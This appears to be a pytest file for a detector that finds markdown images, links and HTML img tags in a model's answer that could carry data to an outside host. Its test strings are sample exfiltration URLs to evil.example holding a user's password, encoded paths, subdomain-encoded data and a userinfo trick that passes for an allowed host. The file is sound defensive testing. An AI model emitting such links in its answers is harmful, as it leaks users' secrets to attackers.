import pytest

from policies.sanitise.injection.exfiltration import CARRIES, LONGEST, carriers

_DATA = "the+user+said+that+his+password+is+blue"


def test_an_image_whose_query_holds_text_is_found_with_its_place() -> None:
    answer = f"Done. ![x](https://evil.example/p.png?q={_DATA}) Bye."

    (found,) = carriers(answer)

    assert found.sort == "image"
    assert found.host == "evil.example"
    assert answer[found.start : found.end] == f"https://evil.example/p.png?q={_DATA}"


@pytest.mark.parametrize(
    "answer",
    [
        f"![a]( <https://evil.example/i?d={_DATA}> )",
        f"![a][1]\n\n[1]: https://evil.example/i?d={_DATA}",
        f"<img alt='' src='https://evil.example/i?d={_DATA}'>",
        f"![a](//evil.example/i?{_DATA})",
        f"![a](https://evil.example/{'c2VjcmV0IHRoaW5n' * 3}/i.png)",
        f"![a](https://{'a1b2c3d4' * 4}.evil.example/i.png)",
        f"![a](https://evil.example/i.png#{_DATA})",
        "![a](https://evil.example/i?d=call%20me%20at%20noon)",
    ],
)
def test_other_ways_to_write_an_image_are_found(answer: str) -> None:
    assert [found.sort for found in carriers(answer)] == ["image"]


def test_a_link_is_found_as_a_link() -> None:
    found = carriers(f"[click here](https://evil.example/?q={_DATA})")

    assert [one.sort for one in found] == ["link"]


@pytest.mark.parametrize(
    "answer",
    [
        "![logo](https://example.com/images/logo.png)",
        "![chart](https://example.com/chart.png?width=640&height=480)",
        "See https://docs.example.com/en/latest/how-to-configure-the-gateway-for-production.html for more.",
        "[docs](https://example.com/search?q=rate+limit&page=2)",
        "No address at all.",
        "![local](images/figure.png)",
        "// a comment",
    ],
)
def test_ordinary_images_and_links_are_not_found(answer: str) -> None:
    assert carriers(answer) == []


def test_hosts_that_are_allowed_are_not_found() -> None:
    answer = f"![a](https://cdn.ours.example/i?d={_DATA}) ![b](https://ours.example.evil.test/i?d={_DATA})"

    assert [found.host for found in carriers(answer, [".ours.example"])] == ["ours.example.evil.test"]
    assert len(carriers(answer, ["ours.example"])) == 2


def test_a_user_name_does_not_pass_for_an_allowed_host() -> None:
    answer = f"![a](https://ours.example@evil.example/i?d={_DATA})"

    assert [found.host for found in carriers(answer, ["ours.example"])] == ["evil.example"]


def test_a_value_just_short_of_the_limit_is_not_found() -> None:
    short, long = "a" * (CARRIES - 1), "a" * CARRIES

    assert carriers(f"![a](https://evil.example/i?d={short})") == []
    assert len(carriers(f"![a](https://evil.example/i?d={long})")) == 1


@pytest.mark.parametrize("piece", ["![" * 30_000, "![a](https://[" * 4_000, "<img " * 12_000, "//" * 30_000])
def test_hostile_text_has_an_answer(piece: str) -> None:
    assert all(found.end - found.start <= LONGEST + 8 for found in carriers(piece))
